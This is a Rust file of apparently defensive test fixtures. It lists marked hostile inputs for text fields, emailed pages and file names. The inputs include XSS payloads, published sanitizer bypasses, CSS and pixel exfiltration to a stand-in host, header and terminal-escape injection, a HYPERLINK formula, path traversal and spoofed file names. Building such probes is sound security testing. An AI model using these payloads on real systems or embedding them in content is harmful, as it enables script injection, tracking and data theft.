//! Texts of ill will. Each carries [`MARK`], by which it is recognised wherever it comes out.

/// A word that stands in no page of ours: an element, an attribute, a scheme of this name came from data.
pub const MARK: &str = "zq7";

/// One of each kind, for any field that takes a text.
pub const TEXTS: [&str; 28] = [
    "<zq7>",
    "<zq7 onmouseover=zq7()>x</zq7>",
    "\"><zq7 x=\"",
    "'><zq7 x='",
    "\" onfocus=\"zq7()\" autofocus=\"",
    "' onfocus='zq7()' zq7='",
    "`onfocus=zq7()",
    "<img src=zq7 onerror=zq7()>",
    "<svg/onload=zq7()>",
    "</textarea><script>zq7()</script>",
    "</title><script>zq7()</script>",
    "</option></select><zq7>",
    "--><zq7>",
    "]]><zq7>",
    "&lt;zq7&gt;",
    "&#60;zq7&#62;",
    "\u{ff1c}zq7\u{ff1e}",
    "javascript:zq7()",
    "https://zq7.example/\"><zq7>",
    "{{ zq7 }} {% zq7 %} ${zq7}",
    "{ $zq7 } { zq7-key }",
    "zq7\r\nX-Zq7: 1\r\n\r\n<zq7>",
    "zq7\u{2028}<zq7>\u{2029}",
    "\u{202e}zq7<zq7>",
    "\u{1b}]0;zq7\u{7}\u{1b}[31m<zq7>",
    "=HYPERLINK(\"http://zq7.example\",\"zq7\")",
    "+ADw-zq7+AD4-",
    "../../zq7/..%2f..%2f<zq7>",
];

/// Pages that somebody mails: the ways round sanitisers that were found in the last years, tracking, and styles
/// that read.
pub const PAGES: [&str; 24] = [
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=zq7()&gt;\">",
    "<math><mtext><table><mglyph><style><math><img src onerror=zq7()>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=zq7()>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=zq7()>",
    "<noscript><p title=\"</noscript><img src=x onerror=zq7()>\">",
    "<svg><desc><noscript></noscript><style><a title=\"</style><zq7 onclick=zq7()>\">",
    "<template><style></template><img src=x onerror=zq7()></style>",
    "<xmp><p title=\"</xmp><img src=x onerror=zq7()>\">",
    "<a href=\"jav&#x09;ascript:zq7()\">x</a>",
    "<a href=\"&#14;javascript:zq7()\">x</a>",
    "<a href=\"data:text/html,<script>zq7()</script>\">x</a>",
    "<a href=\"vbscript:zq7()\" ping=\"https://zq7.example\">x</a>",
    "<img src=\"https://zq7.example/pixel.gif\" width=1 height=1>",
    "<img srcset=\"https://zq7.example/a 1x\" lowsrc=\"https://zq7.example/b\" dynsrc=\"https://zq7.example/c\">",
    "<div style=\"background:url(https://zq7.example/x)\">x</div>",
    "<style>@import 'https://zq7.example'; input[value^=a]{background:url(https://zq7.example/a)}</style>",
    "<link rel=stylesheet href=https://zq7.example><base href=https://zq7.example>",
    "<meta http-equiv=refresh content=\"0;url=https://zq7.example\">",
    "<form action=https://zq7.example><input name=csrf autofocus onfocus=zq7()><button formaction=javascript:zq7()>x",
    "<iframe srcdoc=\"<script>zq7()</script>\"></iframe><object data=zq7.svg></object><embed src=zq7.swf>",
    "<video poster=https://zq7.example><source onerror=zq7()></video><audio src=https://zq7.example autoplay>",
    "<svg><a xlink:href=\"javascript:zq7()\"><text>x</text></a><use href=\"data:image/svg+xml,<svg id=x onload=zq7()>#x\"/></svg>",
    "<table background=https://zq7.example><td background=https://zq7.example>x",
    "<p id=csrf name=csrf class=btn hx-get=/sign-out hx-trigger=load data-key=x>x</p>",
];

/// Names of files.
pub const FILES: [(&str, &str); 10] = [
    ("<zq7>.html", "text/html"),
    ("zq7.svg", "image/svg+xml"),
    ("zq7.xml", "text/xml"),
    ("\";filename=\"zq7.html", "text/html"),
    ("../../../zq7", "application/octet-stream"),
    ("gpj\u{202e}zq7.exe", "image/jpeg"),
    ("zq7\r\nX-Zq7: 1", "text/plain"),
    ("zq7.png", "image/svg+xml"),
    ("zq7.js", "text/javascript"),
    ("C:\\zq7\\<zq7>", "application/pdf"),
];
